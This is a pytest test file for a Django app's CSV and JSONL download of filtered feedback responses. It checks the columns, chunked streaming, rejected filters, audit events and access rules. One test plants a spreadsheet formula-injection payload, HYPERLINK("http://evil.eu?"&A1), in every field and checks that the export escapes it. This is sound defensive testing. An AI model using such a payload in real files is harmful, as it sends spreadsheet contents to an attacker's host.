"""The download of a filter, as CSV and as JSONL."""

from __future__ import annotations

import csv
import io
import json
from typing import Any

import pytest
from django.test import Client

from feedback.accounts.models import Member, Project
from feedback.audit.models import AuditEvent
from feedback.responses import download
from feedback.responses.models import Response
from tests import make

URL = "/p/travel/responses/export/"
CSV, JSONL = URL + "?format=csv", URL + "?format=jsonl"


@pytest.fixture
def browser(curator: Member) -> Client:
    return make.SignedIn(curator)


def body(answer: Any) -> str:
    assert answer.streaming
    return b"".join(answer.streaming_content).decode()


def table(answer: Any) -> list[dict[str, str]]:
    text = body(answer)
    assert text.startswith("\ufeff")
    return list(csv.DictReader(io.StringIO(text[1:], newline="")))


def test_the_csv_has_the_chosen_columns_of_the_filter(browser: Client, project: Project) -> None:
    make.response(project, 'Long, "quoted"\nanswer. ' * 30, question="How long?", verdict="failed", external_id="a")
    make.response(project, "Passed.", verdict="passed")
    answer = browser.get(CSV + "&verdict=failed&columns=answered,external_id,asked")
    [row] = table(answer)
    assert row == {"Asked": "How long?", "Answered": 'Long, "quoted"\nanswer. ' * 30, "External id": "a"}
    assert answer["Content-Disposition"].startswith('attachment; filename="travel-responses-2')
    assert answer["Content-Type"] == "text/csv; charset=utf-8"


@pytest.mark.parametrize("begins", ["=", "+", "-", "@", "\t", "\r", "\n"])
def test_no_cell_is_run_as_a_formula(browser: Client, project: Project, begins: str) -> None:
    hostile = f'{begins}HYPERLINK("http://evil.eu?"&A1)'
    make.response(
        project, hostile, question=hostile, external_id=hostile, tags=[hostile], segment=hostile, latency_ms=5,
        prompt_version=make.prompt_version(project, name=hostile), model_name=hostile, subject_key=hostile,
    )  # fmt: skip
    named = "external_id,asked,answered,tags,segment,prompt,model,subject_key,latency_ms"
    [row] = table(browser.get(f"{CSV}&columns={named}"))
    assert row.pop("Latency (ms)") == "5"
    assert len(row) == 8
    assert all(cell.startswith("'" + begins) for cell in row.values())


def test_the_jsonl_has_everything_as_the_api_does(browser: Client, project: Project) -> None:
    row = make.response(project, "Größe ✓", passages=["Clause 4."], cost="0.5", tags=["a"], body={"metadata": {"k": 1}})
    [line] = body(browser.get(JSONL)).splitlines()
    assert "Größe" in line
    assert json.loads(line) == browser.get(f"/api/v1/responses/{row.pk}/").json()


def test_rows_come_by_id_in_chunks_each_in_a_few_statements(
    browser: Client, project: Project, monkeypatch: pytest.MonkeyPatch, django_assert_max_num_queries: Any
) -> None:
    monkeypatch.setattr(download, "FIRST", 2)
    monkeypatch.setattr(download, "CHUNK", 3)
    made = [make.response(project).pk for _ in range(8)]
    with django_assert_max_num_queries(1 + 4 * 3):
        lines = list(download.as_jsonl(Response.objects.filter(project=project)))
    assert [text.count("\n") for text in lines] == [2, 3, 3]
    assert [json.loads(line)["id"] for line in "".join(lines).splitlines()] == made


def test_it_ends_at_what_was_the_newest_when_it_began(project: Project) -> None:
    make.response(project)
    chunks = download.chunks(Response.objects.filter(project=project))
    assert len(next(chunks)) == 1
    make.response(project)
    assert list(chunks) == []


def test_an_empty_filter_gives_an_empty_file(browser: Client, project: Project) -> None:
    assert table(browser.get(CSV + "&model=none")) == []
    assert body(browser.get(JSONL + "&model=none")) == ""


@pytest.mark.parametrize("query", ["min_cost=much", "enviroment=production"])
def test_a_filter_that_cannot_be_used_downloads_nothing(browser: Client, project: Project, query: str) -> None:
    make.response(project)
    answer = browser.get(f"{CSV}&{query}")
    assert answer.status_code == 422
    assert not answer.streaming
    assert "There is no filter" in answer.text or "Enter a number" in answer.text


def test_it_is_audited_without_the_filters_text(browser: Client, project: Project) -> None:
    body(browser.get(JSONL + "&q=secret&verdict=failed"))
    event = AuditEvent.objects.get(verb="responses-exported")
    assert event.facts == {"shape": "jsonl", "filters": 2}


def test_who_may_not_see_responses_and_unknown_shapes_get_nothing(
    browser: Client, reviewer: Member, outsider: Member
) -> None:
    assert make.SignedIn(reviewer).get(CSV).status_code == 403
    assert make.SignedIn(outsider).get(CSV).status_code == 404
    assert browser.get(URL).status_code == 404
    assert browser.get(URL + "?format=xlsx").status_code == 404
    assert browser.post(CSV).status_code == 405
